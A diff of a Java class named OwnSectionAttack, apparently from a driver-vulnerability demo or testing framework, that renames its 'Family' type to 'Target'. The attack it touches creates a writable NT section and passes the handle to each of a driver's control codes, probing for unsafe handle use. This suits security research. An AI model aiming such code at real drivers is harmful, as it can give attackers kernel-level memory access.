@@ -1,8 +1,8 @@
 package ntsection.drivers.attacks;
 
-import ntsection.drivers.Family;
 import ntsection.drivers.demo.Attack;
 import ntsection.drivers.demo.Stage;
+import ntsection.drivers.demo.Target;
 import ntsection.nt.LongOut;
 import ntsection.ob.ObjectAttributes;
 
@@ -27,13 +27,13 @@ public final class OwnSectionAttack implements Attack {
     }
 
     @Override
-    public boolean aims(Family family) {
+    public boolean aims(Target target) {
         return true;
     }
 
     @Override
     public void stage(Stage stage) {
-        Family family = stage.driver().family();
+        Target target = stage.target();
         stage.attack(user -> {
             LongOut section = new LongOut();
             if (!user.nt().ntCreateSection(section, SECTION_MAP_READ | SECTION_MAP_WRITE | SECTION_QUERY,
@@ -41,8 +41,8 @@ public final class OwnSectionAttack implements Attack {
                 return;
             }
             RawDevice device = new RawDevice(user);
-            if (!device.open(family.device()).isSuccess()) return;
-            for (int code : family.controlCodes()) device.sendLong(code, section.value);
+            if (!device.open(target.device()).isSuccess()) return;
+            for (int code : target.controlCodes()) device.sendLong(code, section.value);
             device.close();
             user.nt().ntClose(section.value);
         });
